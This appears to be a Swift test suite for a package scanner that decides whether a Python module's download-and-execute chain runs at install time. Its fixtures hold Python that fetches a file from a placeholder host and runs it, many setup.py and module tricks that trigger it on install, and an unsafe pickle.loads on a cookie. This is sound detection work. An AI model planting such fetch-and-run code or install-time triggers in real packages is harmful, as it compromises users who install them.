import SallyportModel
import Testing

@testable import SallyportAnalysis

@Suite("A module that setup.py reads the version from")
struct SleepingFunctionTests {
    /// A tool that fetches a program and starts it when it is called.
    private static let module = """
        import subprocess
        from urllib.request import urlopen
        __version__ = '1.0'
        def fetch(url):
            return urlopen(url).read()
        def install(url='https://tools.example.invalid/x'):
            with open('/tmp/x', 'wb') as file:
                file.write(fetch(url))
            subprocess.Popen(['/tmp/x'])
        def main():
            install()
        if __name__ == '__main__':
            main()

        """
    private static let setup = """
        from setuptools import setup
        from sample import __version__
        setup(name='sample', version=__version__, py_modules=['sample'])

        """

    @Test("does what its functions would do when it is used, not when it is installed")
    func asleep() {
        let chains = Self.chains()
        #expect(chains.map(\.reach) == [.load])
        #expect(
            Self.chains(setup: Self.setup.replacing("from sample import __version__", with: "import sample"))
                .allSatisfy { $0.reach == .load }
        )
    }

    @Test(
        "does it at installation where setup.py can call it",
        arguments: [
            ("setup(", "main()\nsetup("), ("import __version__", "import __version__, install"),
            ("import __version__", "import *"),
            ("setup(", "import sample\nsample.install()\nsetup("),
            ("setup(", "import sample\ngetattr(sample, 'ma' + 'in')()\nsetup("),
            ("setup(", "import sys\nsys.modules['sample'].__dict__[NAME]()\nsetup("),
            ("setup(", "import os, sys\nos.system(sys.executable + ' sample.py')\nsetup("),
            ("setup(", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'sample'])\nsetup("),
            ("setup(", "import runpy\nrunpy.run_module('sample', run_name=NAME)\nsetup("),
        ]
    )
    func called(_ place: String, _ change: String) {
        let setup = Self.setup.replacing(place, with: change)
        #expect(Self.chains(setup: setup).contains { $0.reach == .install })
    }

    @Test(
        "does it at installation where the module itself calls it",
        arguments: [
            ("if __name__ == '__main__':\n    main()", "main()"),
            ("if __name__ == '__main__':", "if __name__ != '__main__':"),
            ("if __name__ == '__main__':", "if __name__ == '__main__' or True:"),
            ("def main():", "@run\ndef main():"),
            ("if __name__", "for f in [main]: f()\nif __name__"),
            ("if __name__", "globals()['ma' + x]()\nif __name__"),
            ("if __name__", "class A:\n    x = install()\nif __name__"),
            ("if __name__", "def g(x=install()): pass\nif __name__"),
            ("if __name__", "def g(x: install()): pass\nif __name__"),
            ("def main():", "def __getattr__(name):"),
            ("if __name__", "TABLE = {'a': 'main'}\nif __name__"),
            (
                "def install(url='https://tools.example.invalid/x'):",
                "if True:\n  def install(url='https://tools.example.invalid/x'):"
            ),
        ]
    )
    func wakes(_ place: String, _ change: String) {
        var module = Self.module.replacing(place, with: change)
        if change.hasPrefix("if True") { module = Self.nested }
        #expect(Self.chains(module: module).contains { $0.reach == .install })
    }

    private static let nested = """
        import subprocess
        from urllib.request import urlopen
        if True:
            def install(url):
                with open('/tmp/x', 'wb') as file:
                    file.write(urlopen(url).read())
                subprocess.Popen(['/tmp/x'])

        """

    @Test("serves nobody while it is installed, unless setup.py does")
    func requests() {
        let module =
            "import pickle\n__version__ = '1.0'\nclass App:\n    def get(self, request):\n"
            + "        return pickle.loads(request.cookies['x'])\napp = App()\n"
        let files = ["setup.py": Self.setup, "sample.py": module]
        let imported = Sample.report(Sample.sdist(files), "sample-1.0.tar.gz").facts(.chainBackdoor)
        #expect(imported.map(\.reach) == [.load])
        let own = Sample.report(Sample.sdist(["setup.py": module]), "sample-1.0.tar.gz").facts(.chainBackdoor)
        #expect(own.map(\.reach) == [.install])
    }

    @Test("is not woken by a chain of the same words that sleeps")
    func decoys() {
        let sleeping = (0..<64).map {
            "def d\($0)():\n    open('/tmp/d\($0)', 'wb').write(urlopen(URL).read())\n    subprocess.Popen(['/tmp/d\($0)'])\n"
        }
        let module = Self.module.replacing(
            "if __name__ == '__main__':\n    main()",
            with: sleeping.joined() + "main()"
        )
        #expect(Self.chains(module: module).contains { $0.reach == .install })
    }

    @Test("is denied where it takes more functions than are followed")
    func many() {
        let functions = (0...ModuleOutline.functionsMax).map { "def f\($0)(): pass\n" }.joined()
        #expect(Self.chains(module: Self.module + functions).contains { $0.reach == .install })
        let fewer = (4..<ModuleOutline.functionsMax).map { "def f\($0)(): f\($0 / 2)()\n" }.joined()
        #expect(Self.chains(module: Self.module + fewer).allSatisfy { $0.reach == .load })
    }

    private static func chains(setup: String = setup, module: String = module) -> [Fact] {
        Sample.report(Sample.sdist(["setup.py": setup, "sample.py": module]), "sample-1.0.tar.gz")
            .facts(.chainDownloadExecute)
    }
}
